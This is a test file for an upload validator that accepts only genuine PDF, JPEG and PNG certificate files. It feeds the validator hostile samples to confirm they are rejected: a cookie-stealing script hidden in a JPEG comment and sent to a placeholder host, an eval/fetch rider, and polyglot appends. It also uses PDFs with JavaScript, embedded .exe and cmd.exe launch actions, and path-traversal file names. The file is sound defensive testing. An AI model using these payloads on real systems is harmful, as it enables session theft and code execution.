import { deflateSync } from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import { ValidationError } from '../shared/domain-error.ts';
import { CERTIFICATE_MAX_BYTES, checkCertificateFile, checkCertificateName } from './certificate-file.check.ts';
import { sampleJpeg, samplePdf, samplePng } from './certificate-fixtures.testing.ts';

/** A minimal hand-written PDF whose catalog carries `extra` (uncompressed) for the active-content cases. */
function handPdf(catalogExtra: string, streamBody?: Buffer): Buffer {
  const objects = [
    `1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>\nendobj\n`,
    '2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n',
  ];
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  for (const o of objects) parts.push(Buffer.from(o, 'latin1'));
  if (streamBody) {
    parts.push(Buffer.from(`3 0 obj\n<< /Length ${streamBody.length} /Filter /FlateDecode >>\nstream\n`, 'latin1'), streamBody, Buffer.from('\nendstream\nendobj\n', 'latin1'));
  }
  const body = Buffer.concat(parts);
  parts.push(Buffer.from(`xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R /Size 3 >>\nstartxref\n${body.length}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

async function rejection(bytes: Buffer, name: string): Promise<string> {
  try {
    await checkCertificateFile(bytes, name);
  } catch (error) {
    expect(error).toBeInstanceOf(ValidationError);
    return (error as ValidationError).fieldErrors.certificate ?? '';
  }
  throw new Error(`${name} was accepted`);
}

let png: Buffer;
let jpeg: Buffer;
let pdf: Buffer;

beforeAll(async () => {
  [png, jpeg, pdf] = await Promise.all([samplePng(), sampleJpeg(), samplePdf()]);
});

describe('checkCertificateFile accepts honest files', () => {
  it('a PNG, a JPEG and a PDF, typed by content', async () => {
    expect(await checkCertificateFile(png, '美容所登録証.png')).toEqual({ contentType: 'image/png', name: '美容所登録証.png' });
    expect((await checkCertificateFile(jpeg, 'license.JPG')).contentType).toBe('image/jpeg');
    expect((await checkCertificateFile(pdf, 'kakunin.pdf')).contentType).toBe('application/pdf');
  });
});

describe('checkCertificateFile refuses', () => {
  it('other types, whatever the name says', async () => {
    expect(await rejection(Buffer.from('<html><script>alert(1)</script></html>'), 'cert.pdf')).toContain('PDF・JPEG・PNG');
    expect(await rejection(Buffer.from('GIF89a\x01\x00\x01\x00', 'latin1'), 'cert.png')).toContain('PDF・JPEG・PNG');
    expect(await rejection(Buffer.from('<svg onload="alert(1)"/>'), 'cert.svg')).toContain('PDF・JPEG・PNG');
  });

  it('a real file under the wrong extension', async () => {
    expect(await rejection(png, 'cert.pdf')).toContain('拡張子');
    expect(await rejection(pdf, 'cert.jpg')).toContain('拡張子');
    expect(await rejection(png, 'cert.png.exe')).toContain('拡張子');
  });

  it('empty and oversized files', async () => {
    expect(await rejection(Buffer.alloc(0), 'a.png')).toContain('空');
    const big = Buffer.concat([png, Buffer.alloc(CERTIFICATE_MAX_BYTES)]);
    expect(await rejection(big, 'a.png')).toContain('5MB');
  });

  it('a header with nothing behind it, and a truncated image', async () => {
    expect(await rejection(Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0xff, 0xd9]), 'a.jpg')).toBeTruthy();
    expect(await rejection(png.subarray(0, png.length - 20), 'a.png')).toBeTruthy();
    expect(await rejection(Buffer.from('%PDF-1.4\nhello\n'), 'a.pdf')).toBeTruthy();
  });

  it('polyglots: an image with a PDF, ZIP, HTML or script payload appended', async () => {
    const riders = [
      pdf,
      Buffer.from('PK\u0003\u0004\u0014\u0000\u0000\u0000evil.js', 'latin1'),
      Buffer.from('<html><script>fetch("//x")</script></html>'),
      Buffer.from('eval(atob("ZmV0Y2goJy8veCcp"))'),
    ];
    for (const rider of riders) {
      expect(await rejection(Buffer.concat([jpeg, rider]), 'a.jpg')).toBeTruthy();
      expect(await rejection(Buffer.concat([png, rider]), 'a.png')).toBeTruthy();
    }
  });

  it('a payload tucked inside the image before its end marker', async () => {
    // A JPEG comment segment (FF FE) holding markup, then the real image: still ends in FF D9.
    const comment = Buffer.from('<script>new Image().src="//x?d="+document.cookie</script>');
    const segment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, comment.length + 2]), comment]);
    const tucked = Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2)]);
    expect(await rejection(tucked, 'a.jpg')).toContain('HTML');
  });

  it('a PDF with a ZIP or a second PDF appended after %%EOF', async () => {
    expect(await rejection(Buffer.concat([pdf, Buffer.from('PK\u0003\u0004zip', 'latin1')]), 'a.pdf')).toContain('末尾');
    expect(await rejection(Buffer.concat([pdf, pdf]), 'a.pdf')).toBeTruthy();
  });

  it('PDFs with JavaScript, OpenAction, embedded files or launch actions, also when the name is escaped or compressed', async () => {
    expect(await checkCertificateFile(handPdf(''), 'plain.pdf')).toMatchObject({ contentType: 'application/pdf' });
    for (const extra of [
      '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
      '/Names << /EmbeddedFiles << /Names [(x.exe) 3 0 R] >> >>',
      '/AA << /O << /S /Launch /F (cmd.exe) >> >>',
      '/OpenAction << /S /J#61vaScript /J#53 (x) >>',
    ]) {
      expect(await rejection(handPdf(extra), 'a.pdf')).toContain('PDF');
    }
    const hidden = deflateSync(Buffer.from('<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>'));
    expect(await rejection(handPdf('', hidden), 'a.pdf')).toContain('スクリプト');
  });
});

describe('checkCertificateName', () => {
  it('refuses path tricks, control characters, disguised extensions and long names', () => {
    for (const bad of ['../../etc/passwd.png', '..\\boot.png', 'a/b.png', 'C:cert.png', 'cert\u0000.png', 'ce\nrt.png', 'cert\u202egnp.exe', '.htaccess', `${'あ'.repeat(130)}.png`, '']) {
      expect(() => checkCertificateName(bad), JSON.stringify(bad)).toThrow(ValidationError);
    }
    expect(checkCertificateName('美容所 確認書 (2024).pdf')).toBe('美容所 確認書 (2024).pdf');
  });
});
